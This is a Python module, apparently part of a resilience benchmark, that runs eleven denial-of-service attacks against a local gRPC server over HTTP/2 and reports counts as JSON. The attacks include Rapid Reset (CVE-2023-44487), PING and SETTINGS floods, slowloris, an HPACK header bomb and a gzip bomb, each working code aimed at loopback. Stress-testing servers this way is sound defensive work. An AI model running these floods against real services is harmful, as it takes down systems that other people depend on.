"""The attacks themselves, one process each.

`python -m bench.attacks.attacker NAME PORT SECONDS SOURCE`. Owns sockets and what is sent through
them; must not judge the server. Each attack does its worst for so many seconds, connects again when
it is thrown out, and prints what it saw as one JSON line.
"""

from __future__ import annotations

import contextlib
import gzip
import json
import socket
import struct
import sys
import time
from collections import Counter
from typing import TYPE_CHECKING, Final

from bench.attacks import frames

if TYPE_CHECKING:
    from collections.abc import Callable

__all__ = ["ATTACKS", "main"]

RESERVE: Final = "/lastunit.stock.v1.StockService/Reserve"
LIST: Final = "/lastunit.stock.v1.StockService/GetAvailability"
BURST: Final = 40_000
PATIENCE_SECONDS: Final = 0.2
# The largest odd number of a stream; a connection is used up after it.
STREAM_MAX: Final = 2**31 - 1


class Attacker:
    """One attacking process.

    Args:
        port: The server's, on loopback.
        seconds: How long to go on.
        source: The address of loopback that it comes from.
    """

    def __init__(self, port: int, seconds: float, source: str = "127.0.0.1") -> None:
        self._port = port
        self._source = source
        self._end = time.monotonic() + seconds
        self.seen: Counter[str] = Counter()
        self.open: list[socket.socket] = []

    @property
    def is_over(self) -> bool:
        """Whether the time is up."""
        return time.monotonic() >= self._end

    def connect(self, greeting: bytes = frames.PREFACE + frames.settings()) -> socket.socket | None:
        """Opens a connection and says hello; None if it was refused."""
        try:
            opened = socket.create_connection(
                ("127.0.0.1", self._port), timeout=2, source_address=(self._source, 0)
            )
            opened.sendall(greeting)
        except OSError:
            self.seen["refused_connections"] += 1
            time.sleep(0.01)
            return None
        self.seen["connections"] += 1
        return opened

    def send(self, opened: socket.socket, data: bytes, count: int = 0) -> bool:
        """Sends without reading much; False when the server has closed."""
        try:
            opened.settimeout(2)
            opened.sendall(data)
            self.seen["sent"] += count
            self.seen["bytes"] += len(data)
            self.drain(opened)
        except TimeoutError:
            self.seen["stalled"] += 1
            return not self.is_over
        except OSError:
            self.seen["closed_by_server"] += 1
            opened.close()
            return False
        return True

    def close(self) -> None:
        """Closes what is still open."""
        for opened in self.open:
            opened.close()

    def drain(self, opened: socket.socket) -> None:
        """Reads what is there, so that the server never waits for us."""
        opened.settimeout(0)
        with contextlib.suppress(BlockingIOError):
            while data := opened.recv(1 << 16):
                self.seen["goaway"] += data.count(b"too_many_pings")
            raise ConnectionResetError

    def each_connection(self, work: Callable[[socket.socket], None]) -> None:
        """Works on one connection after the other until the time is up."""
        while not self.is_over:
            opened = self.connect()
            if opened is not None:
                with opened:
                    work(opened)


def rapid_reset(attacker: Attacker) -> None:
    """Opens calls and resets them at once, 40,000 a burst (CVE-2023-44487)."""
    block = frames.call_headers(RESERVE)

    def work(opened: socket.socket) -> None:
        stream = 1
        while not attacker.is_over and stream + 2 * BURST < STREAM_MAX:
            for _ in range(20):
                burst = b"".join(
                    frames.frame(frames.HEADERS, frames.END_HEADERS, number, block)
                    + frames.frame(frames.RST_STREAM, 0, number, b"\0\0\0\x08")
                    for number in range(stream, stream + 2 * BURST // 20, 2)
                )
                stream += 2 * BURST // 20
                if not attacker.send(opened, burst, BURST // 20):
                    return

    attacker.each_connection(work)


def half_open(attacker: Attacker) -> None:
    """Opens calls and never sends their message, over several connections."""
    block = frames.call_headers(RESERVE)
    numbers = range(1, 2 * 4000, 2)
    opening = b"".join(
        frames.frame(frames.HEADERS, frames.END_HEADERS, number, block) for number in numbers
    )
    while not attacker.is_over:
        if len(attacker.open) >= 8:  # noqa: PLR2004 - connections that stay open
            time.sleep(PATIENCE_SECONDS)
            attacker.open = [each for each in attacker.open if attacker.send(each, b"")]
            continue
        opened = attacker.connect()
        if opened is not None and attacker.send(opened, opening, len(numbers)):
            attacker.open.append(opened)


def ping_flood(attacker: Attacker) -> None:
    """Sends PING after PING; each wants an answer."""
    burst = frames.frame(frames.PING, 0, 0, b"12345678") * 2000

    def work(opened: socket.socket) -> None:
        while not attacker.is_over and attacker.send(opened, burst, 2000):
            pass

    attacker.each_connection(work)


def settings_flood(attacker: Attacker) -> None:
    """Sends SETTINGS after SETTINGS; each wants an acknowledgement."""
    burst = frames.settings(window=65_535) * 2000

    def work(opened: socket.socket) -> None:
        while not attacker.is_over and attacker.send(opened, burst, 2000):
            pass

    attacker.each_connection(work)


def slow_loris(attacker: Attacker) -> None:
    """Opens 500 connections and says the first words a byte at a time."""
    position = 0
    while not attacker.is_over:
        while len(attacker.open) < 500 and not attacker.is_over:  # noqa: PLR2004 - see above
            opened = attacker.connect(b"")
            if opened is None:
                break
            attacker.open.append(opened)
        byte = frames.PREFACE[position : position + 1]
        position = (position + 1) % (len(frames.PREFACE) - 1)
        attacker.open = [each for each in attacker.open if attacker.send(each, byte, 1)]
        time.sleep(PATIENCE_SECONDS / 2)


def header_bomb(attacker: Attacker) -> None:
    """Puts 4 KiB into the table of headers and names it 3,000 times a call: 12 MiB of metadata."""
    big = frames.literal(b"x-bomb", b"x" * 3900, is_indexed=True)
    # The newest field of the dynamic table has index 62.
    reference = bytes([0x80 | 62]) * 3000

    def work(opened: socket.socket) -> None:
        stream = 1
        while not attacker.is_over and stream < STREAM_MAX:
            block = frames.call_headers(RESERVE) + (big if stream == 1 else b"") + reference
            sent = frames.frame(
                frames.HEADERS, frames.END_HEADERS | frames.END_STREAM, stream, block
            )
            if not attacker.send(opened, sent, 1):
                return
            stream += 2

    attacker.each_connection(work)


def gzip_bomb(attacker: Attacker) -> None:
    """Sends 256 MiB of zeros as 256 KiB of gzip, again and again."""
    packed = frames.message(gzip.compress(bytes(256 << 20), 6), is_compressed=True)
    block = frames.call_headers(RESERVE, (b"grpc-encoding", b"gzip"))
    chunks = [packed[at : at + 16_384] for at in range(0, len(packed), 16_384)]

    def work(opened: socket.socket) -> None:
        stream = 1
        while not attacker.is_over and stream < STREAM_MAX:
            parts = [frames.frame(frames.HEADERS, frames.END_HEADERS, stream, block)]
            parts += [frames.frame(frames.DATA, 0, stream, chunk) for chunk in chunks]
            parts.append(frames.frame(frames.DATA, frames.END_STREAM, stream))
            for part in parts:
                if not attacker.send(opened, part):
                    return
            attacker.seen["sent"] += 1
            stream += 2
            time.sleep(0.02)

    attacker.each_connection(work)


def many_connections(attacker: Attacker) -> None:
    """Opens connections, greets and keeps them, 6,000 at most."""
    while not attacker.is_over:
        if len(attacker.open) >= 6000:  # noqa: PLR2004 - see above
            time.sleep(PATIENCE_SECONDS)
            continue
        opened = attacker.connect()
        if opened is not None:
            attacker.open.append(opened)


def slow_reader(attacker: Attacker) -> None:
    """Asks questions and takes no byte of an answer: its window stays closed."""
    body = frames.message(b"\x0a\x07general")
    greeting = frames.PREFACE + frames.settings(window=0)
    block = frames.call_headers(LIST)
    while not attacker.is_over:
        opened = attacker.connect(greeting)
        if opened is None:
            continue
        attacker.open.append(opened)
        stream = 1
        while not attacker.is_over and stream < 2 * 4000:
            burst = b"".join(
                frames.frame(frames.HEADERS, frames.END_HEADERS, number, block)
                + frames.frame(frames.DATA, frames.END_STREAM, number, body)
                for number in range(stream, stream + 200, 2)
            )
            stream += 200
            if not attacker.send(opened, burst, 100):
                break
        if len(attacker.open) > 16:  # noqa: PLR2004 - connections that stay open
            attacker.open.pop(0).close()


def slow_writer(attacker: Attacker) -> None:
    """Begins messages of 4 MiB on many calls, sends most of each and never the end."""
    head = struct.pack(">BL", 0, 4 << 20)
    chunk = bytes(16_384)
    block = frames.call_headers(RESERVE)

    def work(opened: socket.socket) -> None:
        # The wider windows of the server hold once they are acknowledged.
        with contextlib.suppress(OSError):
            opened.recv(1 << 16)
            opened.sendall(frames.frame(frames.SETTINGS, frames.ACK, 0))
        for stream in range(1, 2 * 64, 2):
            parts = [frames.frame(frames.HEADERS, frames.END_HEADERS, stream, block)]
            parts.append(frames.frame(frames.DATA, 0, stream, head))
            # As much as a window of 1 MiB takes at once; what is read opens it again.
            parts += [frames.frame(frames.DATA, 0, stream, chunk)] * 63
            if attacker.is_over or not attacker.send(opened, b"".join(parts), 1):
                return

    while not attacker.is_over:
        opened = attacker.connect()
        if opened is None:
            continue
        attacker.open.append(opened)
        work(opened)
        if len(attacker.open) > 32:  # noqa: PLR2004 - connections that stay open
            attacker.open.pop(0).close()


def half_frames(attacker: Attacker) -> None:
    """Keeps 500 connections open, each with headers that never end."""
    block = frames.call_headers(RESERVE)
    greeting = frames.PREFACE + frames.settings() + frames.frame(frames.HEADERS, 0, 1, block)
    while not attacker.is_over:
        while len(attacker.open) < 500 and not attacker.is_over:  # noqa: PLR2004 - see above
            opened = attacker.connect(greeting)
            if opened is None:
                break
            attacker.open.append(opened)
        attacker.open = [each for each in attacker.open if attacker.send(each, b"", 0)]
        time.sleep(PATIENCE_SECONDS / 2)


ATTACKS: Final[dict[str, Callable[[Attacker], None]]] = {
    "rapid_reset": rapid_reset,
    "half_open": half_open,
    "ping_flood": ping_flood,
    "settings_flood": settings_flood,
    "slow_loris": slow_loris,
    "header_bomb": header_bomb,
    "gzip_bomb": gzip_bomb,
    "many_connections": many_connections,
    "slow_reader": slow_reader,
    "slow_writer": slow_writer,
    "half_frames": half_frames,
}


def main() -> None:
    """Runs one attack and prints what it saw."""
    name, port, seconds, source = sys.argv[1:]
    attacker = Attacker(int(port), float(seconds), source)
    ATTACKS[name](attacker)
    sys.stdout.write(json.dumps(dict(attacker.seen)) + "\n")


if __name__ == "__main__":
    main()
